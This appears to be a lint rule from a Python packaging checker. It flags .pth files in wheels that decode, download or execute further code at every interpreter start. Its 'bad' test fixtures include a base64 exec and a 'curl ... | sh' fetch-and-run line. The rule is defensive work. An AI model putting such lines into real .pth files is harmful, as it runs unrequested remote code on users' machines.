import { within } from '../../src/place.js'
import { finding, quote, rule } from '../../src/rule.js'
import { importLines, LONGEST_IMPORT, pathFiles, suspicion } from './_path-files.js'

export default rule({
  id: 'pth-suspicious-code',
  topic: 'contents',
  severity: 'error',
  applies: ['wheel'],
  enforcedBy: [],
  force: 'none',
  source: 'PEP 829, "Rationale"',
  url: 'https://peps.python.org/pep-0829/',
  summary: 'Code in a .pth file decodes, downloads or runs further code.',
  why: 'It runs in every interpreter without being imported: the way malicious packages start.',
  breaks:
    'Every start of Python in the environment decodes, downloads or starts something that nobody asked for, and uses it before any program begins.',
  fix: 'Move the code into a module, and let the `.pth` or `.start` file call one function of it.',
  precision: 'high',
  securitySeverity: 5.5,
  bad: [
    { wheel: { files: { 'demo.pth': 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))\n' } } },
    { wheel: { files: { 'demo.pth': 'import os; os.system("curl -s https://example.org/x | sh")\n' } } },
    { wheel: { files: { 'demo.pth': "import os; __import__('demo_' + os.environ['USER'])\n" } } },
    { wheel: { files: { 'demo-nspkg.pth': "import os; __import__('subprocess').run('demo')\n" } } },
  ],
  good: [
    { wheel: { files: { 'demo.pth': 'import demo; demo.hook()  # no subprocess\n' } } },
    { wheel: { files: { 'demo.pth': "import os; 'DEMO' in os.environ and __import__('_demo_hack').add_shim()\n" } } },
  ],
  *check(wheel) {
    for (const file of pathFiles(wheel, '.pth')) {
      for (const line of importLines(file)) {
        const found = suspicion(line.value)
        const lesser = found?.isAttack ? {} : ({ severity: 'warning' } as const)
        if (found && (found.isAttack || !file.isNspkg))
          yield finding(
            within(line, found.word),
            `${file.member} uses ${quote(found.word)} in code that runs at every start of Python.`,
            lesser,
          )
        else if (line.value.length > LONGEST_IMPORT && !file.isNspkg)
          yield finding(
            line,
            `${file.member} has a line of ${line.value.length} characters of code that runs at every start of Python.`,
            lesser,
          )
      }
    }
  },
})
